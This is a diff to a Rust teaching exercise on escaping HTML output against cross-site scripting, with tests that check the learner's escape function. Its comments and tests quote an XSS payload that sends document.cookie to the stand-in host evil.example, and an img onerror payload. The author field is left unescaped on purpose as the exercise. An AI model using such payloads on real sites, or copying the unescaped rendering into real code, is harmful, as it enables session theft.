@@ -1,203 +1,75 @@
 // xss1: escaping HTML output
 //
-// Cross-site scripting (XSS) is injection into HTML. A comment page that builds its HTML
-// with `format!` and pastes each comment in as it was typed lets anyone post
-// `<script>fetch('https://evil.example/?c=' + document.cookie)</script>`: the browser of
-// every later visitor runs it as if it came from your site, with their cookies and their
-// session. The browser cannot tell your markup from the attacker's; only the server can.
+// Cross-site scripting (XSS) is injection into HTML. A comment page that pastes comments in
+// as they were typed lets anyone post `<script>fetch('https://evil.example/?c=' +
+// document.cookie)</script>`, and every later visitor's browser runs it as your site's code,
+// with their session. Escape on output: `&` -> `&amp;` (first, or you escape your own
+// entities twice), `<` -> `&lt;`, `>` -> `&gt;`, `"` -> `&quot;`, `'` -> `&#x27;`. Store what
+// the user typed; escape when you render.
 //
-// The rule: escape on output, for the context you write into. Between tags, five characters
-// must become entities so the browser shows them as text instead of parsing them as markup:
-//
-//     &  ->  &amp;      (first, or you escape your own entities twice)
-//     <  ->  &lt;
-//     >  ->  &gt;
-//     "  ->  &quot;
-//     '  ->  &#x27;
-//
-// (The quotes only matter inside attribute values, which xss2 is about, but escaping them
-// everywhere costs nothing.) Store what the user typed and escape when you render: the data
-// stays correct for a JSON API, a CSV export or a future template.
-//
-// Write `escape_html` and use it for everything user-controlled on the page.
+// Write `escape_html`, and use it for everything user-controlled on the page.
 
-use std::sync::{Arc, Mutex};
-
-use axum::Router;
-use axum::extract::{Form, State};
-use axum::response::{Html, Redirect};
-use axum::routing::get;
-use serde::Deserialize;
-
-#[derive(Clone, Debug, Deserialize)]
 struct Comment {
     author: String,
     body: String,
 }
 
-#[derive(Clone, Default)]
-struct AppState {
-    comments: Arc<Mutex<Vec<Comment>>>,
-}
-
-/// Escapes text for HTML, as the table in the header comment says.
+/// Escapes the five characters that HTML gives a meaning.
 fn escape_html(text: &str) -> String {
-    // TODO: replace each of the five characters with its entity. Walking `text.chars()`
-    // and pushing onto a `String` does it in one pass.
+    // TODO: replace each of the five characters with its entity. Walk `text.chars()`.
     text.to_string()
 }
 
-fn render_page(comments: &[Comment]) -> String {
-    let mut html = String::from("<!doctype html>\n<h1>Comments</h1>\n<ul>\n");
-    for comment in comments {
-        html.push_str(&format!(
-            "<li><b>{}</b>: {}</li>\n",
-            comment.author, // TODO: the author's name is typed by a user too.
-            escape_html(&comment.body)
-        ));
-    }
-    html.push_str("</ul>\n");
-    html
+fn render_comment(comment: &Comment) -> String {
+    format!(
+        "<li><b>{}</b>: {}</li>",
+        comment.author, // TODO: the author's name is typed by a user too.
+        escape_html(&comment.body)
+    )
 }
 
-async fn show_comments(State(state): State<AppState>) -> Html<String> {
-    let comments = state.comments.lock().unwrap();
-    Html(render_page(&comments))
-}
-
-async fn add_comment(State(state): State<AppState>, Form(comment): Form<Comment>) -> Redirect {
-    state.comments.lock().unwrap().push(comment);
-    Redirect::to("/comments")
-}
-
-fn app(state: AppState) -> Router {
-    Router::new()
-        .route("/comments", get(show_comments).post(add_comment))
-        .with_state(state)
-}
-
-#[tokio::main]
-async fn main() {
-    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
-        .await
-        .expect("bind a local port");
-    let addr = listener.local_addr().expect("read the local address");
-    println!("listening on http://{addr}/comments");
-    axum::serve(listener, app(AppState::default()))
-        .await
-        .expect("serve");
+fn main() {
+    let comment = Comment {
+        author: "Tom & Jerry".to_string(),
+        body: "<3".to_string(),
+    };
+    println!("{}", render_comment(&comment));
 }
 
 // The tests below check your work. You don't need to change them.
 #[cfg(test)]
 mod tests {
     use super::*;
-    use axum::body::Body;
-    use axum::http::{Request, StatusCode, header};
-    use http_body_util::BodyExt;
-    use tower::ServiceExt;
 
-    /// Percent-encodes a form value the way a browser does.
-    fn form_encode(value: &str) -> String {
-        value
-            .bytes()
-            .map(|b| match b {
-                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'*' => {
-                    (b as char).to_string()
-                }
-                b' ' => "+".to_string(),
-                _ => format!("%{b:02X}"),
-            })
-            .collect()
-    }
-
-    async fn post_comment(state: &AppState, author: &str, body: &str) {
-        let request = Request::post("/comments")
-            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
-            .body(Body::from(format!(
-                "author={}&body={}",
-                form_encode(author),
-                form_encode(body)
-            )))
-            .unwrap();
-        let response = app(state.clone()).oneshot(request).await.unwrap();
-        assert_eq!(response.status(), StatusCode::SEE_OTHER);
-    }
-
-    async fn get_page(state: &AppState) -> String {
-        let request = Request::get("/comments").body(Body::empty()).unwrap();
-        let response = app(state.clone()).oneshot(request).await.unwrap();
-        assert_eq!(response.status(), StatusCode::OK);
-        assert_eq!(
-            response.headers()[header::CONTENT_TYPE],
-            "text/html; charset=utf-8"
-        );
-        let bytes = response.into_body().collect().await.unwrap().to_bytes();
-        String::from_utf8(bytes.to_vec()).unwrap()
+    fn render(author: &str, body: &str) -> String {
+        let (author, body) = (author.to_string(), body.to_string());
+        render_comment(&Comment { author, body })
     }
 
     #[test]
-    fn escapes_the_five_characters() {
-        assert_eq!(escape_html("plain text"), "plain text");
-        assert_eq!(escape_html("<b>"), "&lt;b&gt;");
-        assert_eq!(escape_html("Tom & Jerry"), "Tom &amp; Jerry");
-        assert_eq!(escape_html(r#"say "hi""#), "say &quot;hi&quot;");
-        assert_eq!(escape_html("it's"), "it&#x27;s");
+    fn escapes_the_five_characters_once() {
+        let got = escape_html(r#"<a href="x">Tom & Jerry's</a> &lt; 👋"#);
+        let want = "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#x27;s&lt;/a&gt; &amp;lt; 👋";
+        assert_eq!(got, want, "each of the five characters, `&` exactly once");
+    }
+
+    #[test]
+    fn a_script_in_a_comment_is_shown_not_run() {
+        let html = render(
+            "mallory",
+            "<script>fetch('https://evil.example/?c=')</script>",
+        );
+        let why = format!("the attacker's script tag reached the page: {html}");
+        assert!(html.contains("&lt;script&gt;fetch(&#x27;"), "{why}");
+    }
+
+    #[test]
+    fn an_event_handler_in_the_author_name_is_shown_not_run() {
+        let html = render("<img src=x onerror=alert(1)>", "hi");
+        let want = "<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>";
         assert_eq!(
-            escape_html("&lt;"),
-            "&amp;lt;",
-            "escape `&` first, exactly once"
+            html, want,
+            "the author's name is user input too: its img tag would run"
         );
-        assert_eq!(escape_html("héllo 👋"), "héllo 👋");
-        assert_eq!(escape_html(""), "");
-    }
-
-    #[tokio::test]
-    async fn ordinary_comments_are_shown() {
-        let state = AppState::default();
-        post_comment(&state, "alice", "Nice post!").await;
-        let page = get_page(&state).await;
-        assert_eq!(
-            page,
-            "<!doctype html>\n<h1>Comments</h1>\n<ul>\n<li><b>alice</b>: Nice post!</li>\n</ul>\n"
-        );
-    }
-
-    #[tokio::test]
-    async fn a_script_in_a_comment_is_shown_not_run() {
-        let state = AppState::default();
-        let attack = "<script>fetch('https://evil.example/?c=' + document.cookie)</script>";
-        post_comment(&state, "mallory", attack).await;
-        let page = get_page(&state).await;
-        assert!(
-            !page.contains("<script"),
-            "the attacker's script tag reached the page:\n{page}"
-        );
-        assert!(page.contains(
-            "<li><b>mallory</b>: &lt;script&gt;fetch(&#x27;https://evil.example/?c=&#x27; + \
-             document.cookie)&lt;/script&gt;</li>"
-        ));
-    }
-
-    #[tokio::test]
-    async fn an_event_handler_in_the_author_name_is_shown_not_run() {
-        let state = AppState::default();
-        post_comment(&state, "<img src=x onerror=alert(1)>", "hi").await;
-        let page = get_page(&state).await;
-        assert!(
-            !page.contains("<img"),
-            "the attacker's img tag reached the page:\n{page}"
-        );
-        assert!(page.contains("<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>"));
-    }
-
-    #[tokio::test]
-    async fn what_users_type_is_what_others_see() {
-        let state = AppState::default();
-        post_comment(&state, "Tom & Jerry", "Use &lt; for < in HTML").await;
-        let page = get_page(&state).await;
-        assert!(page.contains("<li><b>Tom &amp; Jerry</b>: Use &amp;lt; for &lt; in HTML</li>"));
-        let stored = state.comments.lock().unwrap()[0].body.clone();
-        assert_eq!(stored, "Use &lt; for < in HTML", "store the text as typed");
     }
 }
